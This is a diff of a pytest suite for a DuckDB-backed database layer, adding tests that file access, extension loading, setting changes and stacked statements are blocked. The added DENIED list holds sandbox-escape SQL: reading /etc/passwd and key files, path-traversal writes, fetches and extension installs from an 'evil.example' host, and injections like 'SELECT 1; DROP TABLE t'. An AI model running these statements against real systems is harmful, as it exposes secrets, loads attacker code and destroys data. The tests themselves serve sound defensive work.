@@ -3,13 +3,14 @@
 import subprocess
 import sys
 import threading
+import time
 from pathlib import Path
 
 import duckdb
 import pyarrow as pa
 import pytest
 
-from data.database import DatabaseError, Queries, Query
+from data.database import DatabaseError, Queries, Query, TooSlow
 from data.home import Home
 
 
@@ -99,26 +100,91 @@ def test_a_snapshot_does_not_see_later_commits(table: Home) -> None:
         assert reader.value(sql("SELECT count(*) FROM t")) == 0
 
 
-@pytest.mark.parametrize(
-    "statement",
-    [
-        "SELECT * FROM read_csv('/etc/passwd')",
-        "SELECT * FROM read_text('/etc/passwd')",
+# What SQL could reach outside its own tables, grouped by how: reading, writing, attaching, loading, settings, other ways.
+DENIED = [
+    *("SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/passwd')", "SELECT * FROM '/etc/passwd'"),
+    *(
+        "SELECT * FROM read_blob('{home}/keys/audit')",
+        "SELECT * FROM read_json('/etc/os-release')",
         "SELECT * FROM glob('/*')",
-        "COPY (SELECT 1) TO '/tmp/flowcard-escape.csv'",
-        "COPY (SELECT 1) TO '{home}/exports/../escape.csv'",
+    ),
+    *("SELECT * FROM read_parquet('/x.parquet')", "SELECT * FROM read_csv('https://evil.example/x.csv')"),
+    *("SELECT * FROM read_text('{home}/exports/../flowcard.lock')", "SELECT * FROM sniff_csv('/etc/passwd')"),
+    *("SELECT * FROM 's3://evil/x.parquet'", "SELECT * FROM read_text('{home}/carriers.toml')"),
+    *("COPY (SELECT 1) TO '/tmp/flowcard-escape.csv'", "COPY (SELECT 1) TO '{home}/exports/../escape.csv'"),
+    *("COPY sim FROM '/etc/passwd'", "COPY (SELECT 1) TO '{home}/keys/audit'", "COPY (SELECT 1) TO '/dev/stdout'"),
+    *("EXPORT DATABASE '/tmp/flowcard-escape'", "IMPORT DATABASE '/tmp/flowcard-escape'"),
+    *(
         "ATTACH '/tmp/flowcard-escape.duckdb'",
-        "EXPORT DATABASE '/tmp/flowcard-escape'",
-        "INSTALL httpfs",
-        "LOAD httpfs",
-        "SET enable_external_access = true",
-        "SET lock_configuration = false",
-        "SET allowed_directories = ['/']",
-    ],
-)
-def test_sql_reaches_no_file_and_no_setting(home: Home, statement: str) -> None:
+        "ATTACH '{home}/exports/../other.duckdb'",
+        "ATTACH 'https://evil.example/x.db'",
+    ),
+    *("ATTACH '/tmp/x.db' (TYPE sqlite)", "ATTACH '' AS pg (TYPE postgres)"),
+    *("INSTALL httpfs", "LOAD httpfs", "INSTALL './evil.duckdb_extension'", "LOAD '/tmp/evil.duckdb_extension'"),
+    *("FORCE INSTALL httpfs FROM 'http://evil.example'", "UPDATE EXTENSIONS"),
+    *("SET enable_external_access = true", "SET lock_configuration = false", "SET allowed_directories = ['/']"),
+    *("SET allowed_paths = ['/etc/passwd']", "SET python_enable_replacements = true", "SET memory_limit = '1TB'"),
+    *("SET allow_community_extensions = true", "SET allow_unsigned_extensions = true", "SET threads = 64"),
+    *(
+        "SET temp_directory = '/etc'",
+        "SET log_query_path = '/tmp/flowcard-log'",
+        "SET GLOBAL enable_external_access = true",
+    ),
+    *("PRAGMA enable_external_access = true", "RESET lock_configuration", "RESET allowed_directories"),
+    *("SET secret_directory = '/tmp'", "SET home_directory = '/'"),
+    *("SET custom_extension_repository = 'http://evil.example'", "SET file_search_path = '/etc'"),
+    *("CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", "SELECT * FROM lying_here"),
+]
+
+
+@pytest.mark.parametrize("statement", DENIED)
+def test_sql_reaches_no_file_no_setting_and_no_variable_of_ours(home: Home, statement: str) -> None:
+    lying_here = pa.table({"a": [1]})
     with pytest.raises(duckdb.Error):
         home.db.read().rows(sql(statement.replace("{home}", str(home.path))))
+    assert lying_here.num_rows == 1
+
+
+@pytest.mark.parametrize(
+    "text", ["SELECT 1; DROP TABLE t", "SELECT 1;; SELECT 2", "SELECT 1; -- ;\nDELETE FROM t", "", " -- nothing"]
+)
+def test_what_is_put_together_is_one_statement(table: Home, text: str) -> None:
+    target = table.exports / "x.csv"
+    for run in (
+        table.db.read().rows,
+        table.db.read().arrow,
+        lambda query: table.db.copy_to(query, target, format="csv"),
+    ):
+        with pytest.raises(DatabaseError, match="one statement"):
+            run(sql(text))
+    assert table.db.read().rows(sql("SELECT * FROM t")) == []
+
+
+def test_copying_takes_no_text_that_ends_its_own_bracket(table: Home) -> None:
+    text = f"SELECT 1) TO '{table.exports / 'y.csv'}' (FORMAT csv); DROP TABLE t; COPY (SELECT 1"
+    with pytest.raises((DatabaseError, duckdb.ParserException)):
+        table.db.copy_to(sql(text), table.exports / "x.csv", format="csv")
+    assert table.db.read().rows(sql("SELECT * FROM t")) == []
+
+
+HEAVY = "SELECT count(*) AS n FROM range(100000000) a, range(100000000) b WHERE a.range % 7 = b.range % 5"
+
+
+@pytest.mark.parametrize("way", ["rows", "arrow", "value"])
+def test_a_runaway_read_ends_in_time_and_leaves_the_cursor_usable(home: Home, way: str) -> None:
+    began = time.monotonic()
+    with pytest.raises(TooSlow, match=r"0\.3 seconds"), home.db.read().within(0.3) as reader:
+        getattr(reader, way)(sql(HEAVY))
+    assert time.monotonic() - began < 3
+    assert home.db.read().value(sql("SELECT 7")) == 7
+
+
+def test_a_read_in_time_is_never_stopped_afterwards(home: Home) -> None:
+    for _ in range(20):
+        with home.db.read().within(0.01) as reader:
+            reader.value(sql("SELECT 1"))
+    # Longer than any of those had: were one of their stopwatches still running, it would end this one.
+    assert home.db.read().value(sql("SELECT count(*) FROM range(30000000) a WHERE a.range % 3 = 0")) == 10_000_000
 
 
 def test_exports_are_the_one_way_out(home: Home) -> None:
